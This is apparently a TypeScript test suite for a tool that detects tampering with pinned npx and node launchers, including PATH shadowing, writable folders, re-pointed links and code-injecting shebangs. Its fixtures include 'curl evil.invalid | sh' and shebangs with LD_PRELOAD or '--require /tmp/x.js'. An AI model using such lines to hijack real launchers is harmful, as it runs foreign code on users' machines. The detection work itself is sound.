import assert from "node:assert/strict";
import { execFileSync } from "node:child_process";
import {
  chmodSync,
  chownSync,
  copyFileSync,
  linkSync,
  lutimesSync,
  readFileSync,
  statSync,
  utimesSync,
  writeFileSync,
} from "node:fs";
import { suite, test } from "node:test";

import { NodeDisk } from "../../src/adapters/node-disk.ts";
import { DiskError } from "../../src/ports/disk.ts";
import { judgeChains } from "../../src/verify/chains.ts";
import { LauncherHome, server } from "../support/launcher-home.ts";

const isRoot = process.getuid?.() === 0;
const needsRoot = { skip: isRoot ? false : "only root can give files away" };
/** An account of every machine. */
const DAEMON = 1;
const posix = { skip: process.platform === "win32" ? "POSIX permissions" : false };

/** A home whose launcher is pinned and untouched. */
function pinned(): LauncherHome {
  const home = new LauncherHome();
  const { errors, chains } = home.pin();
  assert.deepEqual(errors, []);
  assert.equal(chains.length, 1);
  return home;
}

suite("a pinned chain", posix, () => {
  test("that nobody touched gives nothing", () => {
    using home = pinned();
    const { findings, verdict } = home.judge();
    assert.deepEqual(findings, []);
    assert.equal(verdict, "verified");
  });

  test("is pinned once: a second lock has nothing to add", () => {
    using home = pinned();
    assert.deepEqual(home.pin().chains, []);
  });
});

suite("PATH", posix, () => {
  test("S01: a new npx in an earlier folder is named with what would run", () => {
    using home = pinned();
    home.path = `${home.at("home/.local/bin")}:${home.bin}`;
    home.script("home/.local/bin/npx", "#!/bin/sh", "curl example.invalid\n");
    const { rules, findings } = home.judge();
    assert.ok(rules.includes("error shadowed-launcher"), rules.join());
    assert.equal(findings[0]?.wouldRun, home.at("home/.local/bin/npx"));
    assert.match(findings[0].message, /pinned .*usr\/bin\/npx/);
  });

  test("S02: the same name added later is a note", () => {
    using home = pinned();
    home.path = `${home.bin}:${home.at("opt/bin")}`;
    home.script("opt/bin/npx", "#!/bin/sh");
    const { findings, verdict } = home.judge();
    assert.deepEqual(
      findings.map(({ ruleId, severity }) => `${severity} ${ruleId}`),
      ["note later-candidate"],
    );
    assert.equal(verdict, "verified");
  });

  test("S03: a file without an execute bit is one chmod away", () => {
    using home = pinned();
    home.path = `${home.at("home/bin")}:${home.bin}`;
    home.file("home/bin/npx", "#!/bin/sh\n");
    assert.deepEqual(home.judge().rules, ["warning latent-candidate"]);
    chmodSync(home.at("home/bin/npx"), 0o755);
    assert.ok(home.judge().rules.includes("error shadowed-launcher"));
  });

  test("S04: a folder of the name is passed over", () => {
    using home = pinned();
    home.path = `${home.at("home/bin")}:${home.bin}`;
    home.folder("home/bin/node");
    home.folder("home/bin/npx");
    assert.deepEqual(home.judge().findings, []);
  });

  for (const [where, path] of [
    ["in the middle", (home: LauncherHome) => `${home.at("opt")}::${home.bin}`],
    ["at the end", (home: LauncherHome) => `${home.bin}:`],
  ] as const)
    test(`S05: an empty entry ${where} is a warning, and an error with a program there`, () => {
      using home = pinned();
      home.path = path(home);
      assert.deepEqual(home.judge().rules, ["warning odd-path-entry"]);
      home.script("home/npx", "#!/bin/sh");
      const { rules, findings } = home.judge();
      assert.ok(rules.includes("error odd-path-entry"), rules.join());
      assert.equal(
        findings.find(({ ruleId }) => ruleId === "odd-path-entry")?.wouldRun,
        home.at("home/npx"),
      );
    });

  test("S07: an unexpanded home in an entry's PATH is a warning", () => {
    using home = new LauncherHome();
    for (const raw of ["~/bin", "$HOME/bin"]) {
      const known = server({ env: { PATH: `${raw}:${home.bin}` } });
      home.pin(known);
      assert.deepEqual(home.judge(known).rules, ["warning odd-path-entry"]);
    }
  });

  test("S08: a world-writable folder before the pinned one is an error, sticky or not", () => {
    using home = pinned();
    home.path = `${home.at("pub")}:${home.bin}`;
    for (const mode of [0o777, 0o1777]) {
      home.folder("pub", mode);
      assert.deepEqual(home.judge().rules, ["error writable-launcher"]);
    }
    home.path = `${home.bin}:${home.at("pub")}`;
    assert.deepEqual(home.judge().rules, []);
  });

  test("a world-writable ancestor is an error unless it is sticky", () => {
    using home = pinned();
    home.folder("usr", 0o777);
    assert.deepEqual(home.judge().rules, ["error writable-launcher"]);
    home.folder("usr", 0o1777);
    assert.deepEqual(home.judge().rules, []);
  });

  test("a world-writable folder of npm's own code is an error", () => {
    using home = pinned();
    home.folder("usr/lib/node_modules/npm/lib", 0o777);
    assert.deepEqual(home.judge().rules, ["error writable-launcher"]);
  });

  test("S09: a folder that a foreign group can write to is a warning", needsRoot, () => {
    using home = pinned();
    home.folder("usr/bin", 0o775);
    assert.deepEqual(home.judge().rules, []);
    chownSync(home.bin, statSync(home.bin).uid, 54_321);
    assert.deepEqual(home.judge().rules, ["warning writable-launcher"]);
  });

  test("S11: a missing folder that others can create is an error", () => {
    using home = pinned();
    home.folder("pub", 0o1777);
    home.path = `${home.at("pub/tools/bin")}:${home.at("home/none")}:${home.bin}`;
    const { rules, findings } = home.judge();
    assert.deepEqual(rules, ["error creatable-path-folder"]);
    assert.match(findings[0]?.wouldRun ?? "", /pub\/tools\/bin\/npx/);
  });

  test("S12: a folder of the PATH that is a link to equal files elsewhere is an error", () => {
    using home = new LauncherHome();
    home.link("bin", "usr/bin");
    home.path = home.at("bin");
    home.pin();
    assert.deepEqual(home.judge().rules, []);
    execFileSync("cp", ["-a", home.at("usr"), home.at("evil")]);
    home.link("bin", "evil/bin");
    const { rules, findings } = home.judge();
    assert.ok(rules.includes("error changed-launcher"), rules.join());
    assert.equal(findings[0]?.observed, "link to evil/bin");
    assert.equal(findings[0].wouldRun, home.at("evil/lib/node_modules/npm/bin/npx-cli.js"));
  });

  test("S16: another PATH is an error only where it leads elsewhere", () => {
    using home = pinned();
    home.path = `${home.at("opt/tools")}:${home.bin}:/nowhere-at-all`;
    assert.deepEqual(home.judge().rules, []);
    home.script("opt/tools/node", "#!/bin/sh");
    assert.ok(home.judge().rules.includes("error shadowed-interpreter"));
    home.path = home.at("opt/tools");
    home.script("opt/tools/npx", "#!/bin/sh");
    assert.ok(home.judge().rules.includes("error changed-launcher"));
  });

  test("S17: a relative command is judged against its cwd", () => {
    using home = new LauncherHome();
    home.binary("work/server", "server");
    const known = server({ command: "./server", args: [], cwd: home.at("work") });
    home.pin(known);
    assert.deepEqual(home.judge(known).rules, []);
    home.folder("work", 0o777);
    assert.deepEqual(home.judge(known).rules, ["error writable-launcher"]);
  });

  test("S18: a relative command without a cwd is a warning and settles nothing", () => {
    using home = new LauncherHome();
    home.binary("home/tools/server", "server");
    const known = server({ command: "tools/server", args: [] });
    const { rules, verdict } = home.judge(known);
    assert.deepEqual(rules, ["warning relative-command"]);
    assert.equal(verdict, "inconclusive");
  });
});

suite("links", posix, () => {
  test("S19: the last link leads to another file", () => {
    using home = pinned();
    home.script("evil/x", "#!/bin/sh");
    home.link("usr/bin/npx", "../../evil/x");
    const { findings } = home.judge();
    assert.equal(findings[0]?.ruleId, "changed-launcher");
    assert.equal(findings[0].pinned, "link to ../lib/node_modules/npm/bin/npx-cli.js");
    assert.equal(findings[0].wouldRun, home.at("evil/x"));
  });

  test("a middle link is re-pointed to equal bytes", () => {
    using home = new LauncherHome();
    home.remove("usr/bin/npx");
    home.link("usr/bin/npx", "../../etc/alternatives/npx");
    home.link("etc/alternatives/npx", "../../usr/lib/node_modules/npm/bin/npx-cli.js");
    home.pin();
    assert.deepEqual(home.judge().rules, []);
    execFileSync("cp", ["-a", home.npm, home.at("npm2")]);
    home.link("etc/alternatives/npx", "../../npm2/bin/npx-cli.js");
    const { findings } = home.judge();
    assert.equal(findings[0]?.ruleId, "changed-launcher");
    assert.equal(findings[0].location?.file, home.at("etc/alternatives/npx"));
    assert.equal(findings[0].severity, "error");
  });

  test("S21: a newer version in a Homebrew-like place is an error that says it may be an upgrade", () => {
    using home = new LauncherHome();
    home.binary("Cellar/node/24.10.0/bin/node", "24.10");
    home.link("brew/bin/node", "../../Cellar/node/24.10.0/bin/node");
    home.path = `${home.at("brew/bin")}:${home.bin}`;
    home.pin();
    home.binary("Cellar/node/24.11.0/bin/node", "24.11");
    home.link("brew/bin/node", "../../Cellar/node/24.11.0/bin/node");
    const { rules, findings } = home.judge();
    assert.deepEqual(rules, ["error changed-interpreter"]);
    assert.match(findings[0]?.message ?? "", /likely an upgrade, which is not proof/);
    assert.match(findings[0]?.remedy ?? "", /pinfold accept npx/);
  });

  test("S22: a circle of links is an error and ends", () => {
    using home = pinned();
    home.link("usr/bin/npx", "npx-b");
    home.link("usr/bin/npx-b", "npx");
    const { rules } = home.judge();
    assert.ok(rules.includes("error launcher-loop"), rules.join());
  });

  test("S24: a hard link to the pinned binary in an earlier folder is a warning", () => {
    using home = pinned();
    home.folder("home/bin");
    linkSync(home.at("usr/bin/node"), home.at("home/bin/node"));
    home.path = `${home.at("home/bin")}:${home.bin}`;
    assert.deepEqual(home.judge().rules, ["warning shadowed-interpreter"]);
  });

  test("an equal copy of a script elsewhere loads what is beside it there: an error", () => {
    using home = pinned();
    home.folder("home/bin");
    copyFileSync(`${home.npm}/bin/npx-cli.js`, home.at("home/bin/npx"));
    chmodSync(home.at("home/bin/npx"), 0o755);
    home.path = `${home.at("home/bin")}:${home.bin}`;
    assert.ok(home.judge().rules.includes("error shadowed-launcher"));
  });
});

suite("files", posix, () => {
  test("an edit of the same size at the same time is found", () => {
    using home = pinned();
    const file = home.at("usr/bin/node");
    const { atime, mtime, size } = statSync(file);
    writeFileSync(file, readFileSync(file, "latin1").replace("24", "66"), "latin1");
    utimesSync(file, atime, mtime);
    assert.equal(statSync(file).size, size);
    const { findings } = home.judge();
    assert.deepEqual(
      findings.map(({ ruleId, severity }) => `${severity} ${ruleId}`),
      ["error changed-interpreter"],
    );
    assert.match(findings[0]?.observed ?? "", /^sha256:/);
  });

  test("one edited file of npm's own code is named", () => {
    using home = pinned();
    const file = `${home.npm}/lib/exec.js`;
    writeFileSync(file, "exports.exec = () => 0;\n");
    const { findings } = home.judge();
    assert.equal(findings[0]?.ruleId, "changed-launcher-code");
    assert.equal(findings[0].location?.file, file);
    assert.match(findings[0].pinned ?? "", /^sha256:/);
  });

  test("files added to npm's code, and a new version of it, are errors", () => {
    using home = pinned();
    home.file("usr/lib/node_modules/npm/node_modules/x/index.js", "");
    assert.deepEqual(home.judge().rules, ["error changed-launcher-code"]);
    home.remove("usr/lib/node_modules/npm/node_modules/x/index.js");
    assert.deepEqual(home.judge().rules, []);
    home.file("usr/lib/node_modules/npm/package.json", '{"name":"npm","version":"11.20.0"}\n');
    const { findings } = home.judge();
    assert.match(findings[0]?.message ?? "", /likely an upgrade/);
    assert.equal(findings[0]?.severity, "error");
  });

  test("a file that was taken out of npm's code is named", () => {
    using home = pinned();
    home.remove("usr/lib/node_modules/npm/lib/exec.js");
    const { findings } = home.judge();
    assert.equal(findings[0]?.severity, "error");
    assert.equal(findings[0].location?.file, `${home.npm}/lib/exec.js`);
  });

  test("a file of npm's code that others can write to is an error", () => {
    using home = pinned();
    chmodSync(`${home.npm}/lib/exec.js`, 0o666);
    assert.deepEqual(home.judge().rules, ["error writable-launcher"]);
  });

  test("a FIFO among npm's files blocks nothing and is an error", () => {
    using home = pinned();
    home.fifo(`${home.npm}/lib/fifo`);
    assert.deepEqual(home.judge().rules, ["error changed-launcher-code"]);
  });

  test("S27: a file that changes while it is read settles nothing", () => {
    using home = pinned();
    home.disk = new (class extends NodeDisk {
      override digest(path: string, keep: number) {
        if (path.endsWith("/usr/bin/node")) throw new DiskError("changing", path);
        return super.digest(path, keep);
      }
    })();
    const { rules, verdict } = home.judge();
    assert.deepEqual(rules, ["warning unsettled-launcher"]);
    assert.equal(verdict, "inconclusive");
  });

  test("S28: a pinned program without any right to read or run it is protection lost", () => {
    using home = pinned();
    for (const path of ["usr/bin/node", "usr/lib/node_modules/npm/bin/npx-cli.js"]) {
      chmodSync(home.at(path), 0);
      const { rules, verdict } = home.judge();
      assert.ok(rules.includes("error protection-lost"), rules.join());
      assert.equal(verdict, "violated");
      chmodSync(home.at(path), 0o755);
    }
  });

  for (const what of ["folder", "FIFO", "device"] as const)
    test(`a ${what} in place of a pinned program is an error`, () => {
      using home = pinned();
      for (const path of ["usr/bin/node", "usr/bin/npx"]) {
        home.remove(path);
        if (what === "folder") home.folder(path);
        else if (what === "FIFO") home.fifo(path);
        else home.link(path, "/dev/null");
        const { rules } = home.judge();
        assert.ok(rules.includes("error launcher-not-a-file"), `${path}: ${rules.join()}`);
        home.remove(path);
        if (path.endsWith("node")) home.binary(path, "node 24");
      }
    });

  test("a missing launcher is an error once it was pinned", () => {
    using home = pinned();
    home.remove("usr/bin/npx");
    assert.deepEqual(home.judge().rules, ["error missing-launcher"]);
  });

  test("S31: a launcher that belongs to a third account is an error", needsRoot, () => {
    using home = pinned();
    chownSync(home.at("usr/bin/node"), DAEMON, DAEMON);
    const { rules } = home.judge();
    assert.ok(rules.includes("error foreign-owner"), rules.join());
    assert.ok(rules.includes("error changed-interpreter"), rules.join());
  });

  test(
    "an archive that root unpacked, with a number that nobody has, is one warning",
    needsRoot,
    () => {
      using home = new LauncherHome();
      execFileSync("chown", ["-R", "54321:54321", home.npm]);
      // Whether all accounts are in files is for this machine to say.
      const isSure = home.people.isNobodys(54_321);
      const { errors, chains } = home.pin();
      const { findings } = home.judge();
      assert.deepEqual(
        findings.map(({ severity, ruleId }) => `${severity} ${ruleId}`),
        [isSure ? "warning foreign-owner" : "error foreign-owner"],
      );
      assert.match(findings[0]?.message ?? "", /npm and \d+ files and folders in it/);
      if (isSure) assert.deepEqual([errors.length, chains.length], [0, 1]);
      // One of them that somebody can log in as is named for itself.
      chownSync(`${home.npm}/lib/exec.js`, DAEMON, 54_321);
      const [first] = home.judge().findings;
      assert.deepEqual([first?.ruleId, first?.severity], ["foreign-owner", "error"]);
      assert.equal(first?.location?.file, `${home.npm}/lib/exec.js`);
    },
  );

  test("a setuid bit is an error, pinned or not", () => {
    using home = new LauncherHome();
    chmodSync(home.at("usr/bin/node"), 0o4755);
    assert.deepEqual(home.judge().rules, ["error setuid-program"]);
    assert.deepEqual(home.pin().chains, []);
    chmodSync(home.at("usr/bin/node"), 0o755);
    home.pin();
    chmodSync(home.at("usr/bin/node"), 0o4755);
    assert.ok(home.judge().rules.includes("error changed-interpreter"));
  });

  test("another mode is an error", () => {
    using home = pinned();
    chmodSync(home.at("usr/bin/node"), 0o775);
    assert.deepEqual(home.judge().rules, ["error changed-interpreter"]);
  });

  test("times alone are nothing", () => {
    using home = pinned();
    utimesSync(home.at("usr/bin/node"), 1, 1);
    lutimesSync(home.at("usr/bin/npx"), 1, 1);
    assert.deepEqual(home.judge().findings, []);
  });
});

suite("interpreters", posix, () => {
  test("S35: a new earlier node behind an unchanged npx", () => {
    using home = pinned();
    home.binary("home/bin/node", "evil");
    home.path = `${home.at("home/bin")}:${home.bin}`;
    const { findings, rules } = home.judge();
    assert.deepEqual(rules, ["error shadowed-interpreter"]);
    assert.equal(findings[0]?.wouldRun, home.at("home/bin/node"));
  });

  test("the shell that npm starts packages with is part of the chain", () => {
    using home = pinned();
    home.script("home/bin/sh", "#!/bin/sh");
    home.path = `${home.at("home/bin")}:${home.bin}`;
    assert.ok(home.judge().rules.includes("error shadowed-interpreter"));
  });

  test("a launcher that is a shell script cannot be followed", () => {
    using home = new LauncherHome();
    home.script("opt/bin/npx", "#!/bin/sh", 'exec something "$@"\n');
    home.path = `${home.at("opt/bin")}:${home.bin}`;
    const { rules, verdict } = home.judge();
    assert.deepEqual(rules, ["warning unfollowed-script"]);
    assert.equal(verdict, "inconclusive");
  });
});

suite("first lines", posix, () => {
  const NPX = "usr/lib/node_modules/npm/bin/npx-cli.js";

  for (const [first, why] of [
    ["#!/usr/bin/env -S node --require /tmp/x.js", "--require"],
    ["#!/usr/bin/env -S node --import=./x.mjs", "--import"],
    ["#!/usr/bin/env -S NODE_OPTIONS=--require=/tmp/x.js node", "NODE_OPTIONS"],
    ["#!/usr/bin/env -S LD_PRELOAD=/tmp/x.so node", "LD_PRELOAD"],
    ["#!/usr/bin/env -S node --what-is-this", "--what-is-this"],
    ["#!/usr/bin/env -S python3 -c import,x", "python3"],
    ["#!/usr/bin/env -S deno run --allow-all", "deno"],
  ] as const)
    test(`${first} is never clean`, () => {
      using home = new LauncherHome();
      for (const name of ["python3", "deno"]) home.binary(`usr/bin/${name}`, name);
      home.script(NPX, first);
      home.pin();
      const { rules, verdict, findings } = home.judge();
      assert.equal(verdict, "inconclusive", rules.join());
      assert.match(findings[0]?.message ?? "", new RegExp(why));
    });

  for (const first of [
    "#!/usr/bin/env -S node --no-warnings --max-old-space-size=4096",
    "#!/usr/bin/env -S NODE_ENV=production node",
    "#!/usr/bin/env -S python3 -sE",
  ])
    test(`${first} loads nothing else`, () => {
      using home = new LauncherHome();
      home.binary("usr/bin/python3", "python3");
      home.script(NPX, first);
      home.pin();
      assert.deepEqual(home.judge().rules, []);
    });

  test("a Node that the line names itself is given its options as one word", () => {
    using home = new LauncherHome();
    home.script(NPX, `#!${home.at("usr/bin/node")} --require /tmp/x.js`);
    home.pin();
    assert.deepEqual(home.judge().rules, ["warning uncovered-code"]);
  });

  for (const [what, bytes] of [
    ["zero bytes", "curl evil.invalid | sh\n\0\0\0"],
    ["a mark of Unicode before it", "\ufeff#!/usr/bin/env node\n"],
    ["a blank before it", " #!/usr/bin/env node\n"],
    ["a picture's first bytes", "\u0089PNG\n"],
  ] as const)
    test(`a file with ${what} is handed to the shell by who starts it`, () => {
      using home = new LauncherHome();
      home.file(NPX, bytes, 0o755);
      home.pin();
      const { rules, verdict } = home.judge();
      assert.deepEqual([rules, verdict], [["warning unfollowed-script"], "inconclusive"]);
    });
});

suite("clients that find different programs", posix, () => {
  function judgedBoth(home: LauncherHome, env: Readonly<Record<string, string>> = {}) {
    home.binary("opt/bin/node", "other");
    home.script("opt/bin/npx", "#!/usr/bin/env node");
    const { context } = home;
    context.state.clientPaths.write("cursor", { client: "cursor", path: home.at("opt/bin") });
    const cursor = server({ id: "b", client: "cursor", clientName: "Cursor", env });
    const { evidence } = judgeChains(context, [server(), cursor]);
    return [...evidence.values()].map(({ chain }) => chain?.chains[0]?.elsewhere.length);
  }

  test("S15: are told of one another until both chains are pinned", () => {
    using home = new LauncherHome();
    assert.deepEqual(judgedBoth(home), [1, 1]);
    home.pin();
    assert.deepEqual(judgedBoth(home), [0, 1]);
  });

  test("a PATH of the entry's own is no surprise to anybody", () => {
    using home = new LauncherHome();
    assert.deepEqual(judgedBoth(home, { PATH: home.at("opt/bin") }), [0, 0]);
  });
});
